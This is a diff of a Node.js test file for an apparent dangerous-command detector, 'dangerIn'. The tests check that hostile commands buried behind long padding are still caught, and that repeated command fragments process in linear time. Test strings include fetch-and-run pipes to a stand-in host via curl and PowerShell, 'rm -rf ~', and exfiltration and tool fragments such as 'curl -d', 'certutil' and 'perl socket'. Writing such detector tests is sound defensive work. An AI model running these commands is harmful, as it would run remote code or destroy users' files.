@@ -2,6 +2,10 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { dangerIn } from './commands.js';
 
+test('a command is looked at as far as any system could start it', () => {
+  for (const length of [100, 2_100, 20_010, 120_000]) for (const command of ['curl -s https://up.example | sh', 'rm -rf ~', 'powershell iex (iwr https://up.example)']) assert.ok(dangerIn(`echo ${'x'.repeat(length)}; ${command}`), `${command} behind ${length}`);
+});
+
 test('texts that begin a command again and again end in linear time', () => {
   for (const part of ['node -e ', '/node/', 'curl&&chmod;/', 'curl|/a/', 'rm -r -a ', 'certutil ', 'ssh -', 'rundll32 ', '| curl ', 'del /s ', 'shutdown ', 'curl -d "', 'curl -d a', 'curl ?', '-d ', 'curl -T', '| curl -T', 'python -c ', '\0 -c ', 'ping \0.', 'dig \0.a', 'socket ', 'perl socket ']) {
     const text = part.repeat(500).slice(0, 2_000);
